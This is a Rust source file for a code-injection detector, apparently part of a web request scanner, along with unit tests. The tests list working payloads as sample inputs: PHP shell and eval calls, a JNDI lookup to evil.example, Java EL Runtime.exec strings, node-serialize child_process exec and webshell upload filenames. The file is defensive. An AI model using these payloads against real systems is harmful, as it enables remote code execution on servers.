        if x == b'"' || x == b'\'' {
            budget -= 1;
            // A chain of quoted pieces joined by `.`.
            let (mut name, mut j, mut pieces) = (Vec::new(), i, 0);
            while let Some(&q) = b.get(j).filter(|q| matches!(**q, b'"' | b'\'')) {
                let Some(e) = b[j + 1..].iter().take(64).position(|&y| y == q) else {
                    break;
                };
                name.extend_from_slice(&b[j + 1..j + 1 + e]);
                pieces += 1;
                j += e + 2;
                let t = b[j..].trim_ascii_start();
                match t.strip_prefix(b".") {
                    Some(more) => j = b.len() - more.trim_ascii_start().len(),
                    None => break,
                }
            }
            // `"system"(`, `'sys'.'tem' (`: a lone string is called at once ("the "system"
            // (beta)" is prose), a concatenation or subscript may have blanks before `(`.
            let tail = skip_callee_tail(&b[j..]);
            let between = &b[j..b.len() - tail.len()];
            let tight = !between.iter().any(u8::is_ascii_whitespace);
            let built = pieces > 1 || between.contains(&b'[') || between.contains(&b'{');
            if j > i
                && tail.first() == Some(&b'(')
                && (tight || built)
                && dangerous_name(&unescape_name(&name))
            {
                return Some(i);
            }
            i = j.max(i + 1);
            continue;
        }
        if is_ident(x) && (i == 0 || !is_ident(b[i - 1])) {
            let n = b[i..].iter().take_while(|y| is_ident(**y)).count();
            let before = b[..i].trim_ascii_end();
            let before = before
                .strip_suffix(b"*/")
                .and_then(|t| {
                    t.windows(2)
                        .rposition(|w| w == b"/*")
                        .map(|s| t[..s].trim_ascii_end())
                })
                .unwrap_or(before);
            let opened = matches!(before.last(), Some(b'(' | b'['));
            let after = skip_space_comments(&b[i + n..]);
            let closed = matches!(after.first(), Some(b')' | b']'));
            if opened && closed && dangerous_name(&b[i..i + n]) {
                budget -= 1;
                // `(system)(`, `[ system ] [ 0 ] (`: the arguments follow the brackets at
                // once or behind a subscript; "(system) (default)" is prose.
                let tail = skip_callee_tail(after);
                let between = &after[..after.len() - tail.len()];
                let tight = !between.iter().any(u8::is_ascii_whitespace);
                let subscripted = between.contains(&b'[') || between.contains(&b'{');
                if tail.first() == Some(&b'(') && (tight || subscripted) {
                    return Some(i);
                }
            }
            i += n;
            continue;
        }
        i += 1;
    }
    None
}

/// A quoted function name as PHP reads it: `\xHH` and octal escapes decoded, blanks dropped
/// (`"system  "` is trimmed by nothing, but payloads pad names), lower case.
fn unescape_name(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() && out.len() <= 64 {
        if s[i] == b'\\' && matches!(s.get(i + 1), Some(b'x' | b'X')) {
            let hex = s
                .get(i + 2..i + 4)
                .and_then(|h| std::str::from_utf8(h).ok());
            if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                out.push(v.to_ascii_lowercase());
                i += 4;
                continue;
            }
        }
        if !s[i].is_ascii_whitespace() {
            out.push(s[i].to_ascii_lowercase());
        }
        i += 1;
    }
    out
}

/// `${'a'}`, `$ {$a}`, `$ { CONSTANT }`: PHP's variable-variable syntax. `${name}` alone is
/// shell and template interpolation too and is left alone; a blank between `$` and `{`, or
/// a quoted, variable or silenced name inside the braces, is PHP's.
fn variable_variable(b: &[u8]) -> Option<usize> {
    for p in memchr::memchr_iter(b'$', b).take(32) {
        let after = &b[p + 1..];
        let t = after.trim_ascii_start();
        let Some(inner) = t.strip_prefix(b"{") else {
            continue;
        };
        let Some(e) = inner.iter().take(128).position(|&x| x == b'}' || x == b'{') else {
            continue;
        };
        if inner[e] != b'}' {
            continue;
        }
        let body = inner[..e].trim_ascii();
        let Some(&first) = body.first() else {
            continue;
        };
        if t.len() < after.len() || matches!(first, b'\'' | b'"' | b'$' | b'@') {
            return Some(p);
        }
    }
    None
}

fn skip_space_comments(mut b: &[u8]) -> &[u8] {
    for _ in 0..8 {
        let t = b.trim_ascii_start();
        if let Some(r) = t.strip_prefix(b"/*") {
            b = r
                .windows(2)
                .position(|w| w == b"*/")
                .map_or(&[][..], |e| &r[e + 2..]);
        } else if t.starts_with(b"//") || t.starts_with(b"#") {
            b = t
                .iter()
                .position(|&x| x == b'\n')
                .map_or(&[][..], |e| &t[e..]);
        } else {
            return t;
        }
    }
    b
}

/// `$f(…)`, `$_[0](…)`, `${'a'.'b'}(…)`: calling a function held in a variable.
fn variable_call(b: &[u8]) -> Option<usize> {
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'$' {
            i += 1;
            continue;
        }
        let start = i;
        let mut j = i + 1;
        while b.get(j) == Some(&b'$') {
            j += 1;
        }
        let ident = b[j..].iter().take_while(|x| is_ident(**x)).count();
        let braced = b.get(j) == Some(&b'{');
        if ident == 0 && !braced || (ident > 0 && b[j].is_ascii_digit()) {
            i = j.max(i + 1);
            continue;
        }
        j += ident;
        if braced && b.get(j + 1) == Some(&b'}') {
            i = j + 2;
            continue;
        }
        // Subscripts and braces, bounded.
        for _ in 0..4 {
            let t = skip_space_comments(&b[j..]);
            j = b.len() - t.len();
            let (open, close) = match t.first() {
                Some(b'[') => (b'[', b']'),
                Some(b'{') => (b'{', b'}'),
                _ => break,
            };
            // The matching close (`$__[$_[1]](…)` nests).
            let mut depth = 0usize;
            let Some(e) = t.iter().take(64).position(|&x| {
                if x == open {
                    depth += 1;
                } else if x == close {
                    depth = depth.saturating_sub(1);
                }
                depth == 0
            }) else {
                break;
            };
            // `$a[]()`, `${}()`: empty subscripts are no function reference.
            if e == 1 {
                break;
            }
            j += e + 1;
        }
        // `($f)(…)`: the variable in parentheses of its own, the arguments right after
        // ("(see $HOME) (default)" is prose).
        if b[..start].trim_ascii_end().last() == Some(&b'(') {
            let t = b[j..].trim_ascii_start();
            if t.starts_with(b")(") {
                return Some(start);
            }
        }
        if skip_space_comments(&b[j..]).first() == Some(&b'(') && j > start + 1 {
            return Some(start);
        }
        i = j.max(i + 1);
    }
    None
}

/// `O:8:"stdClass":1:{…}`: a serialized PHP object (gadget-chain carrier).
fn serialized_object(b: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = find_ci_from(b, b"o:", from) {
        from = p + 2;
        if !word_start(b, p) {
            continue;
        }
        let rest = &b[p + 2..];
        let digits = rest.iter().take_while(|x| x.is_ascii_digit()).count();
        if digits > 0 && rest[digits..].starts_with(b":\"") {
            let tail = &rest[digits + 2..];
            if tail.windows(2).take(256).any(|w| w == b":{") {
                return Some(p);
            }
        }
    }
    None
}

fn other(b: &[u8], s: &Scan<'_>) -> Option<Hit> {
    if let Some(p) = first_of!(s, b, NODE_NEEDLES) {
        return Some((&rules::CODE_NODE, p));
    }
    // The node-serialize marker in base64 (`_$$ND_FUNC$$_` at each alignment).
    // (Both only where a listed needle is: the markers and every needle `node_runtime`
    // searches for are in [`NEEDLE_LISTS`].)
    let base64_marker = || {
        NODE_BASE64_MARKERS
            .iter()
            .filter_map(|n| find_cased(b, s, n))
            .min()
    };
    let node = || base64_marker().or_else(|| node_runtime(b, s));
    if let Some(p) = s.needles.then(node).flatten() {
        return Some((&rules::CODE_NODE, p));
    }
    if let Some(p) = first_of!(s, b, PROTOTYPE_NEEDLES) {
        return Some((&rules::CODE_PROTOTYPE_POLLUTION, p));
    }
    if let Some(p) = first_of!(s, b, PERL_NEEDLES) {
        return Some((&rules::CODE_PERL, p));
    }
    if let Some(p) = first_of!(s, b, PYTHON_NEEDLES) {
        return Some((&rules::CODE_PYTHON, p));
    }
    if let Some(p) = first_of!(s, b, RUBY_NEEDLES) {
        return Some((&rules::CODE_RUBY, p));
    }
    if let Some(p) = first_of!(s, b, SSI_NEEDLES) {
        return Some((&rules::CODE_SSI, p));
    }
    if s.has_mask(const { needle_mask(b"while(") }) || s.has_mask(const { needle_mask(b"for(;;)") })
    {
        if let Some(p) = infinite_loop(b) {
            return Some((&rules::CODE_INFINITE_LOOP, p));
        }
    }
    None
}

/// Server-side JavaScript reaching the Node.js runtime: the environment (`process.env`,
/// `process["env"]`), the module system (`require[…]`, `module.exports=`), code built at run
/// time (`new Function(`), console calls (`console.info(1)`, `console["log"](`), and React
/// Flight references walking to a constructor (`"$1:constructor:constructor"`, the
/// React2Shell chain). `\u` escapes (`c\u006fnsole`) are read as JavaScript reads them.
fn node_runtime(b: &[u8], s: &ByteSet) -> Option<usize> {
    if s.has(b'\\') && find_ci(b, NODE_ESCAPE[0]).is_some() {
        let plain = js_unescape(b);
        if plain.len() < b.len().min(4096) && node_runtime(&plain, &ByteSet::of(&plain)).is_some() {
            return Some(0);
        }
    }
    // Words of JavaScript people also write in prose and pasted code: only where code starts.
    const NEEDLES: &[&[u8]] = NODE_RUNTIME_NEEDLES;
    const MASKS: [u128; NEEDLES.len()] = needle_masks(NEEDLES);
    for (needle, mask) in NEEDLES.iter().zip(&MASKS) {
        if !s.has_mask(*mask) {
            continue;
        }
        let mut from = 0;
        while let Some(p) = find_ci_from(b, needle, from) {
            from = p + needle.len();
            if !word_start(b, p) || !code_context(b, p) {
                continue;
            }
            if *needle != b"console." {
                return Some(p);
            }
            // `console.info(1)`, `console.info.call(this,1)`: a call of a console method.
            let ident = b[from..]
                .iter()
                .take_while(|x| x.is_ascii_alphabetic())
                .count();
            let rest = &b[from + ident..];
            if ident > 0 && (rest.first() == Some(&b'(') || rest.starts_with(b".call(")) {
                return Some(p);
            }
        }
    }
    for &needle in NODE_FLIGHT_NEEDLES {
        let mut from = 0;
        while let Some(p) = find_ci_from(b, needle, from) {
            from = p + needle.len();
            let chain = b[..p]
                .iter()
                .rev()
                .take(64)
                .take_while(|x| is_ident(**x) || **x == b':')
                .count();
            let start = p - chain;
            if start > 0
                && b[start - 1] == b'$'
                && b.get(start).is_some_and(u8::is_ascii_alphanumeric)
            {
                return Some(start - 1);
            }
        }
    }
    None
}

/// `\uXXXX` escapes of ASCII characters decoded (the rest kept), bounded.
fn js_unescape(b: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(b.len().min(4096));
    let mut i = 0;
    while i < b.len() && i < 4096 {
        if b[i] == b'\\' && matches!(b.get(i + 1), Some(b'u' | b'U')) {
            let hex = b
                .get(i + 2..i + 6)
                .and_then(|h| std::str::from_utf8(h).ok());
            if let Some(v) = hex.and_then(|h| {
                u8::from_str_radix(h, 16)
                    .ok()
                    .filter(|_| h.starts_with("00"))
            }) {
                out.push(v);
                i += 6;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

/// `while(true)`, `while(!0)`, `while(!!{})`, `for(;;)`: a loop whose condition is a constant
/// that JavaScript or PHP reads as true, the payload that hangs a server-side `eval`. The
/// loop is written without a blank before `(` as payloads are; code samples in prose are
/// formatted `while (…)`.
fn infinite_loop(b: &[u8]) -> Option<usize> {
    if let Some(p) = find_ci(b, b"for(;;)") {
        return Some(p);
    }
    let mut from = 0;
    while let Some(p) = find_ci_from(b, b"while(", from) {
        from = p + 6;
        if !word_start(b, p) {
            continue;
        }
        // The condition up to its matching `)`, bounded.
        let rest = &b[p + 6..];
        let mut depth = 1usize;
        let Some(end) = rest.iter().take(64).position(|&x| {
            match x {
                b'(' => depth += 1,
                b')' => depth -= 1,
                _ => {}
            }
            depth == 0
        }) else {
            continue;
        };
        if constant_truth(&rest[..end]) == Some(true) {
            return Some(p);
        }
    }
    None
}

/// The truth of a constant condition (`!0`, `!!""`, `(true)`, `-Infinity`, `new Date`); `None`
/// when it depends on anything else.
fn constant_truth(cond: &[u8]) -> Option<bool> {
    let mut c: Vec<u8> = cond
        .iter()
        .filter(|x| !x.is_ascii_whitespace())
        .map(u8::to_ascii_lowercase)
        .collect();
    let mut negations = 0;
    for _ in 0..8 {
        if c.first() == Some(&b'(') && c.last() == Some(&b')') {
            c = c[1..c.len() - 1].to_vec();
        } else if c.first() == Some(&b'!') {
            negations += 1;
            c.remove(0);
        } else {
            break;
        }
    }
    let truth = match &c[..] {
        b"true" | b"infinity" | b"-infinity" | b"+infinity" | b"this" | b"{}" | b"[]"
        | b"string" | b"object" | b"newdate" | b"newdate()" => true,
        b"false" | b"0" | b"-0" | b"+0" | b"null" | b"undefined" | b"nan" | b"\"\"" | b"''"
        | b"``" => false,
        n if !n.is_empty() => {
            let digits = n.strip_prefix(b"-").or(n.strip_prefix(b"+")).unwrap_or(n);
            if digits.is_empty() || !digits.iter().all(u8::is_ascii_digit) {
                return None;
            }
            digits.iter().any(|&d| d != b'0')
        }
        _ => return None,
    };
    Some(truth != (negations % 2 == 1))
}

#[cfg(test)]
mod tests {
    use std::borrow::Cow;

    use super::*;
    use crate::detect::Kind;
    use crate::detect::{
        inputs::{Input, Source},
        normalize,
    };

    fn rule(value: &str) -> Option<&'static str> {
        let input = Input {
            source: Source::Form,
            name: Cow::Borrowed("f"),
            value: Cow::Borrowed(value),
        };
        let decoded = normalize::decode(value);
        let c = Candidate::new(&input, &decoded);
        let mut out = Vec::new();
        check(&c, &mut out);
        assert!(out.len() <= 1);
        out.first().map(|f| {
            assert_eq!(f.kind, Kind::CodeInjection);
            assert_eq!(f.location, "form:f");
            f.rule_id
        })
    }

    /// The needle gate never hides a finding: random values made of every gated needle and
    /// noise (the bytes the rules look for, pieces of needles), in both cases, get the same
    /// verdict from the checks with the gate's answer as with every needle assumed present.
    #[test]
    fn needle_gate_keeps_every_verdict() {
        #[rustfmt::skip]
        const PIECES: &[&str] = &[
            "a", "x", "0", " ", ".", "_", "$", "{", "}", "(", ")", "[", "]", "<", ">", "?", "#",
            "%", "@", ":", "'", "\"", "/", "\\", "=", ";", "é", "process", "constructor", "java",
            "php", "eval", "require", "console", "class", "runtime", "$_GET", "$x(", "O:8:\"A\":0:{}",
            "u0070", "siobhan.obrien5@example.com", "Please leave the parcel. #5",
        ];
        let listed: Vec<&[u8]> = NEEDLE_LISTS
            .iter()
            .flat_map(|l| l.iter().copied())
            .collect();
        let (mut found, mut gated) = (0usize, 0usize);
        for v in super::super::keywords::random_values(0xc0de_6a7e, &listed, PIECES) {
            let bytes = ByteSet::of(&v);
            let gate = Scan::of(&v, &bytes);
            let all = Scan::unknown(&bytes);
            let run = |s: &Scan<'_>| {
                super::java(&v, s)
                    .or_else(|| super::other(&v, s))
                    .or_else(|| super::php(&v, s))
                    .map(|(r, p)| (r.id(), p))
            };
            let expected = run(&all);
            assert_eq!(run(&gate), expected, "{:?}", String::from_utf8_lossy(&v));
            found += usize::from(expected.is_some());
            gated += usize::from(!gate.needles);
        }
        // The checks fire often, and the gate still turns many values away.
        assert!(found > 10_000 && gated > 10_000, "{found} {gated}");
    }

    #[test]
    fn masked_search_matches_the_plain_search() {
        const LIST: &[&[u8]] = &[b"t(java.", b"t (java.", b".getruntime()", b"java.", b"ab"];
        const MASKS: [u128; LIST.len()] = needle_masks(LIST);
        for hay in [
            &b"x T(Java.lang.Runtime).getRuntime()"[..],
            b"T (JAVA.x) t(java.y",
            b"xx.GETRUNTIME() T(java.",
            b"aB java. t(java.",
            b"nothing here",
            b"",
            "é t(java.".as_bytes(),
        ] {
            let s = ByteSet::of(hay);
            assert_eq!(
                first_of_masked(&Scan::unknown(&s), hay, LIST, &MASKS),
                first_of(&s, hay, LIST),
                "{}",
                String::from_utf8_lossy(hay)
            );
        }
    }

    #[test]
    fn php() {
        for v in [
            "<?php system('id'); ?>",
            "<?=`id`?>",
            "<? echo 1; ?>",
            "x=$_GET['cmd']",
            "system('id')",
            "eval($_POST[x])",
            "base64_decode ('aWQ=')",
            "shell_exec/*x*/('id')",
            "$f('id')",
            "${'a'.'b'}(1)",
            "$_[0]($_[1])",
            "[php]echo 1;[/php]",
            "<? php echo \"test\"",
            "<?\nphp echo 1",
            "exec\t(blah)",
            "exec  (blah)",
            "exec /*comment*/ ()",
            "exec #comment\r\n (blah)",
            "eval\r($foo)",
            "FOOgzinflate()",
            "FOOcall_user_func()",
            "get_defined_functions()[0]",
        ] {
            assert_eq!(rule(v), Some("code.php"), "{v}");
        }
        assert_eq!(
            rule("php://filter/convert.base64-encode/resource=index"),
            Some("code.php_wrapper")
        );
        assert_eq!(rule("phar:///tmp/x.phar/a"), Some("code.php_wrapper"));
        // `data:` URIs carrying PHP, base64 or plain, with any media type or none.
        for v in [
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
            "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "data:;base64,PD9waHAgcGhwaW5mbygpOz8 ",
            "data:text/html;base64,PD9waHAgZWNobyAxOz8-",
            "DATA:application/x-php;BASE64,PD89YGlkYD8+",
        ] {
            assert_eq!(rule(v), Some("code.data_uri"), "{v}");
        }
        // A data URI of an image or of text without PHP is data.
        assert_eq!(
            rule("data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="),
            None
        );
        assert_eq!(rule("data:text/csv;base64,YSxiCjEsMgo="), None);
        // A call needs its argument list: `/eval(` at the end of a path calls nothing.
        assert_eq!(rule("/docs/eval("), None);
        assert_eq!(rule("/docs/eval(x)"), Some("code.php"));
        assert_eq!(
            rule("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
            Some("code.php_object")
        );
    }

    /// Code hidden from a plain `name(` search: strings and brackets as callees, variable
    /// variables, fake XML declarations, PHP-only built-ins.
    #[test]
    fn php_obfuscated_calls() {
        for v in [
            "<?xml :echo 1;",
            "<?xml:echo 1;",
            "<?xml   \t\t ();echo 1;",
            "<?xml\n:system('ls');",
            "test<?",
            "somePhpWouldGoHere[\\php]",
            "${'ff'}",
            "$ {'fdf'}",
            "$    {$a}",
            "$  {  CONSTANT  }",
            "$ {@_.__}(31);",
            "$__[$_[1]](7)",
            "$y = 'sys'.'tem';($y)('uname');",
            "return\"system\"(xyz).s",
            "(system)(whoami)",
            "('system')('whoami')",
            "(\"system  \")(\"whoami\")",
            "(string)\"system\"('uname');",
            "( string ) \"sys\".\"t\".\"em\" ('uname');",
            "(string) {[system][0]} ('uname');",
            "(/* comment */system)(ls/* comment */);",
            "[ system ] [ 0 ] ( ls );",
            "(['system'])[0]('uname');",
            "\"\\x73y\\x73tem\"(ls);",
            "posix_getegid()",
            "print_r( )",
            "is_array()",
            "chr(123)",
            "substr($x)",
            "unpack()",
            "FILE\r\n()",
            "file_exists (\n\n)",
        ] {
            assert_eq!(rule(v), Some("code.php"), "{v}");
        }
        for v in [
            "<?xml version=\"1.0\"?><a/>",
            "<?xml-stylesheet href=\"a.xsl\"?>",
            "<?xml",
            "${HOME}",
            "${name} and ${count}",
            "(see $HOME) (default)",
            "the file(s) you sent",
            "section 3(a)(1) of the license",
            "(system) (default)",
            "\"system\" (beta)",
            "the \"Save\"(blue) button",
            "posix_ compliance (mostly)",
            "see printf(3)",
            "costs $ 5 {approx}",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
    }

    #[test]
    fn node_runtime() {
        for v in [
            "process.env",
            "process[\"env\"]",
            "process[mainModule",
            "require[req.query.a",
            "module.exports=",
            "new Function (",
            "console.info(1)",
            "console[\"info\"](1)",
            "console.info.call(this,1)",
            "c\\u006fnsole.info(1)",
            "{\"get\":\"$3:constructor:constructor\"}",
            "{\"0\":\"$7:Module:prototype\"}",
        ] {
            assert_eq!(rule(v), Some("code.node"), "{v}");
        }
        for v in [
            "the process environment",
            "a new function was added",
            "check the console output (twice)",
            "console.log is noisy",
            "why does console.log(x) print twice",
            "read it from process.env in the handler",
            "use print_r($a) to debug",
            "then substr(s, 1) gives the tail",
            "price: $3 constructor:prototype",
            "\\users\\me",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
    }

    #[test]
    fn java() {
        for (v, r) in [
            ("${jndi:ldap://evil.example/a}", "code.jndi"),
            ("${${lower:j}ndi:${lower:l}dap://x/a}", "code.jndi"),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "code.jndi"),
            (
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
                "code.jndi",
            ),
            (
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                "code.ognl",
            ),
            (
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "code.java_el",
            ),
            (
                "new java.lang.ProcessBuilder({'id'}).start()",
                "code.java_el",
            ),
            ("java.lang.Runtime", "code.java_class"),
            ("rO0ABXNyABFqYXZh", "code.java_deserialization"),
            ("ACED00057372", "code.java_deserialization"),
            (
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                "code.spring_classloader",
            ),
        ] {
            assert_eq!(rule(v), Some(r), "{v}");
        }
    }

    #[test]
    fn php_script_uploads() {
        let upload = |source: Source, name: &str, v: &str| {
            super::super::run_check(check_upload, source, name, v)
                .first()
                .map(|f| f.rule_id)
        };
        for (source, name, v) in [
            (Source::Header, "x-filename", "a.php"),
            (Source::Header, "x_filename", "shell.PHTML"),
            (Source::Header, "x-file-name", "fda.php5..."),
            (Source::Header, "x-filename", "fthisfewfda.php."),
            (Source::Form, "up.filename", "../../x.php7"),
            (Source::Form, "file.filename", "avatar.png.phar"),
            (Source::Header, "x.filename", "dangerous.phpt"),
            (Source::Header, "x-file-name", "fthi/sfewfda.php907......"),
            (Source::Header, "x-filename", "photo. php"),
            // PHP session files.
            (
                Source::Header,
                "x-filename",
                "sess_d8ew88tqmabdcokhumchy8htqm",
            ),
            (
                Source::Header,
                "x_filename",
                "/tmp/sess_abc123def456ghi789jkl",
            ),
            (
                Source::Header,
                "x-file-name",
                "C:\\temp\\SESS_abc-123-def-456-ghij",
            ),
            (Source::Form, "f.filename", "sess_abc123,def456,ghi789jkl"),
        ] {
            assert_eq!(
                upload(source, name, v),
                Some("code.php_upload"),
                "{name}={v}"
            );
        }
        for (source, name, v) in [
            (Source::Header, "x-filename", "report.pdf"),
            (Source::Header, "x-filename", "php"),
            (Source::Header, "x-filename", ".php"),
            (Source::Header, "x-filename", "php.ini.sample"),
            (Source::Header, "x-filename", "a.phpinfo"),
            (Source::Form, "up.filename", "notes.php.txt"),
            (Source::Form, "file", "a.php"),
            (Source::Query, "x-filename", "a.php"),
            (Source::Header, "x-filename", "sess_notes.txt"),
            (Source::Header, "x-filename", "sess_short123"),
            (
                Source::Header,
                "x-filename",
                "session_2024_report_final_v2.csv",
            ),
        ] {
            assert_eq!(upload(source, name, v), None, "{name}={v}");
        }
    }

    #[test]
    fn node_deserialization_markers() {
        for v in [
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
            "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}",
            "XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK",
            "YV8kJE5EX0ZVTkMkJF8=",
            "YWJfJCRORF9GVU5DJCRf",
            "__js_function",
            "eval(String.fromCharCode(97,108))",
            "this.constructor.constructor",
        ] {
            assert_eq!(rule(v), Some("code.node"), "{v}");
        }
    }

    #[test]
    fn constant_true_loops() {
        for v in [
            "while(true);",
            "while(!false)",
            "while(!0);",
            "while(!-0);",
            "while(!!{});",
            "while(!![]);",
            "while(!'');",
            "while(Infinity);",
            "while(-1);",
            "while(new Date);",
            "while((true)))",
            "while(!null)",
            "for(;;){}",
        ] {
            assert_eq!(rule(v), Some("code.infinite_loop"), "{v}");
        }
        for v in [
            "while (foo) is bar.",
            "while(false);",
            "while(!1)",
            "while(x < 10) x++",
            "meanwhile(true)",
            "while(0)",
            "while(!!0)",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
    }

    #[test]
    fn other_languages() {
        assert_eq!(
            rule("require('child_process').exec('id')"),
            Some("code.node")
        );
        assert_eq!(
            rule("{\"__proto__\":{\"admin\":true}}"),
            Some("code.prototype_pollution")
        );
        assert_eq!(rule("@{[ system 'id' ]}"), Some("code.perl"));
        assert_eq!(rule("__import__('os').popen"), Some("code.python"));
        assert_eq!(rule("<!--#exec cmd=\"id\"-->"), Some("code.ssi"));
    }

    /// Needles are skipped only when the value lacks one of their bytes, in either case.
    #[test]
    fn needle_prefilter_is_case_insensitive() {
        for (v, r) in [
            ("PHP://FILTER/resource=x", "code.php_wrapper"),
            ("CHILD_PROCESS", "code.node"),
            ("${T(JAVA.LANG.RUNTIME)}", "code.java_el"),
            ("Java.Lang.Runtime", "code.java_class"),
            ("SYSTEM('id')", "code.php"),
            ("é Shell_Exec ('id')", "code.php"),
            ("x.__PROTO__.y", "code.prototype_pollution"),
            ("%{(#_MemberAccess)}", "code.ognl"),
        ] {
            assert_eq!(rule(v), Some(r), "{v}");
        }
    }

    #[test]
    fn benign() {
        for v in [
            "<?xml version=\"1.0\"?><a/>",
            "the payment system (beta) is down",
            "java.lang.NullPointerException at Foo.bar",
            "Caused by: java.io.IOException: broken pipe",
            "price: $5 (incl. tax)",
            "100%",
            "email me at a@b.com",
            "{{user_name}}",
            "${HOME}",
            "data:image/png;base64,iVBORw0KGgo=",
            "https://example.com/webhook",
            "I like Java and PHP",
            "Tom & Jerry",
            "1.2.3",
            "execute(plan)",
            "O: 8 items",
            "<? should not trigger",
            "$a[]()",
            "such as putenv(3) or environ(7)",
            "the exec (director) said",
            "the ecosystem(s) we know",
            "myreadfile",
            "subsystem (beta)",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
    }
}
